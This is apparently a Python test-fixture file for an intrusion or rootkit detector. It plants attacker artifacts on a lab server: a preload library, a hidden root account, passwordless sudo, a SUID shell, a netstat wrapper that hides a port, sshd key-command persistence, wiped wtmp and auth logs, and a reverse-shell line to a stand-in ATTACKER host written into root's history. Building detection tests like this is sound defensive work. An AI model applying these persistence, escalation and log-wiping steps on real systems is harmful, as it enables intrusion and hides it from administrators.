"""Accounts, rights, files, logs: what an intruder changes and leaves behind."""

import subprocess
from datetime import UTC, datetime, timedelta

from tests.lab.network import ATTACKER
from tests.lab.planted.tools import append, plant, program, text
from tests.lab.server import Server


@plant()
def preloaded_library(server: Server) -> str:
    library = server.root / "usr/lib/libeleven.so"
    source = server.folder / "eleven.c"
    source.write_text("int rootout_lab_eleven;\n")
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
    text(server, "/etc/ld.so.preload", "/usr/lib/libeleven.so\n")
    return "/usr/lib/libeleven.so"


@plant()
def second_root(server: Server) -> str:
    append(server, "/etc/passwd", "toor2:x:0:0::/root:/bin/bash\n")
    append(server, "/etc/shadow", "toor2:$6$x$y:19700:0:99999:7:::\n")
    return "toor2"


@plant()
def password_of_a_service(server: Server) -> str:
    server.shell("usermod -p '$6$ab$cd' www-data")
    return "www-data"


@plant()
def shell_of_a_service(server: Server) -> str:
    server.shell("usermod -s /bin/bash games")
    return "games"


@plant()
def account_without_a_password(server: Server) -> str:
    append(server, "/etc/passwd", "guest9:x:1900:1900::/tmp:/bin/bash\n")
    append(server, "/etc/shadow", "guest9::19700:0:99999:7:::\n")
    return "guest9"


@plant()
def sudo_without_a_password(server: Server) -> str:
    return text(server, "/etc/sudoers.d/zz-www", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)


@plant()
def suid_shell(server: Server) -> str:
    server.shell("cp /bin/dash /var/tmp/.sh; chmod 4755 /var/tmp/.sh")
    return "/var/tmp/.sh"


@plant()
def capable_program(server: Server) -> str:
    path = program(server, "/usr/local/bin/twelve")
    server.shell(f"setcap cap_setuid+ep {path}")
    return path


@plant()
def replaced_program(server: Server) -> str:
    server.shell("mv /usr/bin/netstat /usr/bin/.netstat")
    return text(
        server, "/usr/bin/netstat", '#!/bin/sh\n/usr/bin/.netstat "$@" | grep -v 31337\n', 0o755
    )


@plant()
def changed_program(server: Server) -> str:
    with (server.root / "usr/bin/lsof").open("ab") as file:
        file.write(b"lab")
    return "/usr/bin/lsof"


@plant()
def hidden_program(server: Server) -> str:
    return program(server, "/tmp/.font-unix/.thirteen")


@plant()
def guessed_password(server: Server) -> str:
    start = datetime.now(UTC) - timedelta(hours=2)
    told = [f"Failed password for root from {ATTACKER} port {4000 + n} ssh2" for n in range(60)]
    told.append(f"Accepted password for root from {ATTACKER} port 5000 ssh2")
    lines = (
        f"{(start + timedelta(seconds=n)).isoformat()} lab sshd[{900 + n}]: {one}\n"
        for n, one in enumerate(told)
    )
    append(server, "/var/log/auth.log", "".join(lines))
    return ATTACKER


@plant()
def keys_command_of_sshd(server: Server) -> str:
    path = text(server, "/var/tmp/.keys", "#!/bin/sh\necho ssh-ed25519 AAAA\n", 0o755)
    setting = f"AuthorizedKeysCommand {path}\nAuthorizedKeysCommandUser root\n"
    return text(server, "/etc/ssh/sshd_config.d/90-keys.conf", setting)


@plant()
def attackers_history(server: Server) -> str:
    lines = f"id\nchattr +i /etc/cron.d/x\nbash -i >& /dev/tcp/{ATTACKER}/4444 0>&1\nhistory -c\n"
    return append(server, "/root/.bash_history", lines)


@plant()
def history_to_nowhere(server: Server) -> str:
    server.shell("rm -f /home/alice/.bash_history; ln -s /dev/null /home/alice/.bash_history")
    return "/home/alice/.bash_history"


@plant()
def wiped_login(server: Server) -> str:
    record = bytes(384)
    with (server.root / "var/log/wtmp").open("r+b") as file:
        whole = file.read()
        file.seek(0)
        file.write(record + whole[384:] if whole else record)
    return "/var/log/wtmp"


@plant()
def emptied_log(server: Server) -> str:
    server.shell("systemctl stop rsyslog; truncate -s 0 /var/log/auth.log; systemctl start rsyslog")
    return "/var/log/auth.log"


@plant()
def immutable_cron_file(server: Server) -> str:
    path = text(server, "/etc/cron.d/locked", "1 1 * * * root /usr/bin/true\n")
    server.shell(f"chattr +i {path}")
    unlock = ["chattr", "-i", str(server.root / path.lstrip("/"))]
    server.closing.callback(subprocess.run, unlock, check=False)
    return path
